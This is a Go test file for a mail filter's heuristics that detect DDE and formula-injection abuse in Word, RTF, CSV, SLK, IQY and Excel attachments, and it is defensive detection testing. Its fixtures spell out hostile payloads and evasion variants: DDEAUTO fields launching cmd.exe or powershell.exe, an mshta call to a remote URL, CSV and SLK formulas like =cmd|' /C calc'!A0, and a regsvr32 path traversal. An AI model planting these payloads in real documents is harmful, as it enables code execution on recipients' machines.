package heuristic

import (
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/message"
)

const wNS = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`

// wordXML wraps runs in a document part.
func wordXML(runs string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><w:document ` + wNS + `><w:body><w:p>` + runs + `</w:p></w:body></w:document>`
}

func fld(kind string) string { return `<w:r><w:fldChar w:fldCharType="` + kind + `"/></w:r>` }
func instr(s string) string {
	return `<w:r><w:instrText xml:space="preserve">` + s + `</w:instrText></w:r>`
}

func docxPart(path, xml string) *message.Message {
	return msg(part("2", zipBytes, named("x.docx"), container()), text("2/x.docx/"+path, xml))
}

func TestWordFieldsAssembly(t *testing.T) {
	cases := []struct {
		name, xml string
		want      []string
	}{
		{"split over runs", wordXML(fld("begin") + instr(" DDE") + instr("AUTO c:\\\\windows") + instr("\\\\system32\\\\cmd.exe") + fld("separate") + `<w:r><w:t>result</w:t></w:r>` + fld("end")),
			[]string{` DDEAUTO c:\\windows\\system32\\cmd.exe`}},
		{"fldSimple, single quotes, other prefix", `<x:p xmlns:x="w"><x:fldSimple x:instr='DDEAUTO &quot;cmd&quot; "/c calc"'/></x:p>`,
			[]string{`DDEAUTO "cmd" "/c calc"`}},
		{"QUOTE codes inside", wordXML(fld("begin") + instr("DDEAUTO ") + fld("begin") + instr("QUOTE 99 109 100") + fld("end") + instr(" /c") + fld("end")),
			[]string{"QUOTE 99 109 100", "DDEAUTO cmd /c"}},
		{"ordinary fields", wordXML(fld("begin") + instr(" PAGE ") + fld("end") + `<w:fldSimple w:instr=" TOC \o &quot;1-3&quot; "/>`),
			[]string{" PAGE ", ` TOC \o "1-3" `}},
		{"unterminated", wordXML(fld("begin") + instr("DDE x y")), []string{"DDE x y"}},
	}
	for _, c := range cases {
		got := WordFields([]byte(c.xml))
		if strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
}

// officeCheckCases are TestChecks' samples for the Office checks.
func officeCheckCases() map[string][]sample {
	exec := wordXML(fld("begin") + instr(" dDeAuTo ") + instr(`"C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -c calc"`) +
		instr(` "for security reasons" \* MERGEFORMAT `) + fld("separate") + fld("end"))
	cases := map[string][]sample{
		"dde-exec": {
			{"document, split runs, case, quotes, MERGEFORMAT", docxPart("word/document.xml", exec), "2/x.docx/word/document.xml"},
			{"header", docxPart("word/header1.xml", exec), "2/x.docx/word/header1.xml"},
			{"footnotes, fldSimple", docxPart("word/footnotes.xml", `<w:footnotes `+wNS+`><w:fldSimple w:instr="DDE cmd.exe &quot;/k notepad&quot;"/></w:footnotes>`), "2/x.docx/word/footnotes.xml"},
			{"text box", docxPart("word/document.xml", wordXML(`<w:txbxContent><w:p>`+fld("begin")+instr("DDEAUTO ")+fld("begin")+instr("QUOTE 99 109 100 46 101 120 101")+fld("end")+fld("end")+`</w:p></w:txbxContent>`)), "2/x.docx/word/document.xml"},
			{"flat XML", attach(text("2", wordXML(fld("begin")+instr("DDEAUTO mshta http://x.test/a")+fld("end")), named("report.xml"))), "2"},
			{"RTF fldinst", attach(text("2", `{\rtf1{\field{\*\fldinst {\rtlch DDE}{AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}{\fldrslt x}}}`, named("a.rtf"))), "2"},
			{"csv", attach(text("2", "name,total\r\nx,\"=cmd|' /C calc'!A0\"\r\n", named("report.csv"))), "2"},
			{"csv @SUM", attach(text("2", "a\n@SUM(1+1)*cmd|' /C calc'!A0\n", declared("text/csv"))), "2"},
			{"csv MSEXCEL traversal", attach(text("2", "+MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s'!''\n", named("a.csv"))), "2"},
			{"slk", attach(text("2", "ID;P\r\nC;X1;Y1;K0;ECMD|' /C calc'!A0\r\nE\r\n", named("a.slk"))), "2"},
			{"slk by bytes", attach(text("2", "ID;PWXL;N;E\r\nC;X1;Y1;K0;EPOWERSHELL|' -c x'!A0\r\nE\r\n", named("a.txt"))), "2"},
			{"iqy", attach(text("2", "WEB\r\n1\r\n=cmd|' /c calc'!A0\r\n", named("q.iqy"))), "2"},
			{"xlsx cell", docxPart("xl/worksheets/sheet1.xml", `<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>`), "2/x.docx/xl/worksheets/sheet1.xml"},
			{"xlsx ddeLink", docxPart("xl/externalLinks/externalLink1.xml", `<?xml version="1.0"?><externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>`), "2/x.docx/xl/externalLinks/externalLink1.xml"},
			{"PAGE field", docxPart("word/document.xml", wordXML(fld("begin")+instr(" PAGE ")+fld("end"))), ""},
			{"csv SUM", attach(text("2", "a,b\n1,2\n=SUM(A1:A3),x\n", named("sum.csv"))), ""},
		},
		"dde-link": {
			{"DDE to Excel", docxPart("word/document.xml", wordXML(fld("begin")+instr(`DDE Excel "Sheet1" "R1C1"`)+fld("end"))), "2/x.docx/word/document.xml"},
			{"iqy remote", attach(text("2", "WEB\r\n1\r\nhttps://sheets.example.net/data.php\r\n", named("q.iqy"))), "2"},
			{"ddeLink to Excel", docxPart("xl/externalLinks/externalLink1.xml", `<?xml version="1.0"?><externalLink><ddeLink ddeService="Excel" ddeTopic="Book1"/></externalLink>`), "2/x.docx/xl/externalLinks/externalLink1.xml"},
			{"ordinary fields", docxPart("word/document.xml", wordXML(fld("begin")+instr(" PAGE ")+fld("end")+fld("begin")+instr(` TOC \o "1-3" \h `)+fld("end")+
				`<w:fldSimple w:instr=" HYPERLINK &quot;https://www.example.com/&quot; "/>`)), ""},
			{"word DDE as text", docxPart("word/document.xml", wordXML(`<w:r><w:t>The DDEAUTO field is dangerous</w:t></w:r>`)), ""},
			{"csv with pipes", attach(text("2", "a|b|c\n1|2|3!\n", named("a.csv"))), ""},
		},
	}
	cases["equation-editor"] = equationCases()
	cases["html-smuggling"] = smugglingCases()
	for id, c := range macroCases() {
		cases[id] = c
	}
	for id, c := range libreOfficeCheckCases() {
		cases[id] = append(cases[id], c...)
	}
	return cases
}

func FuzzWordFields(f *testing.F) {
	f.Add([]byte(wordXML(fld("begin") + instr("DDEAUTO ") + fld("begin") + instr("QUOTE 99") + fld("end") + fld("end"))))
	f.Add([]byte(`<a:fldSimple a:instr='x'/><w:fldChar w:fldCharType="separate"><w:instrText>`))
	f.Fuzz(func(t *testing.T, b []byte) {
		fields := WordFields(b)
		if len(fields) > maxFields {
			t.Fatalf("%d fields", len(fields))
		}
		for _, s := range fields {
			judgeField(s)
		}
		rtfDDE(b)
		formulaDDE(b, containsLower(b, "dde"))
		binaryWordDDE(b)
	})
}

func TestBinaryWordDDE(t *testing.T) {
	wide := func(s string) string {
		var b []byte
		for _, r := range s {
			b = append(b, byte(r), byte(r>>8))
		}
		return string(b)
	}
	cases := []struct {
		name, stream string
		exec, any    bool
	}{
		{"8-bit DDEAUTO", "\xec\xa5text \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \x14result\x15 more", true, true},
		{"UTF-16 DDE", wide("text \x13 DDE cmd.exe \"/c notepad\"\x15"), true, true},
		{"nested field dropped", "\x13 PAGE \x13 DDEAUTO cmd /c calc \x15\x14 1\x15", true, true},
		{"PAGE only", "Page \x13 PAGE \x141\x15 of \x13 NUMPAGES \x142\x15", false, false},
		{"DDE to Excel", "\x13 DDE Excel Sheet1 R1C1 \x14 5\x15", false, true},
	}
	for _, c := range cases {
		fs := binaryWordDDE([]byte(c.stream))
		exec := false
		for _, f := range fs {
			exec = exec || f.exec
		}
		if exec != c.exec || (len(fs) > 0) != c.any {
			t.Errorf("%s: %+v", c.name, fs)
		}
	}
}
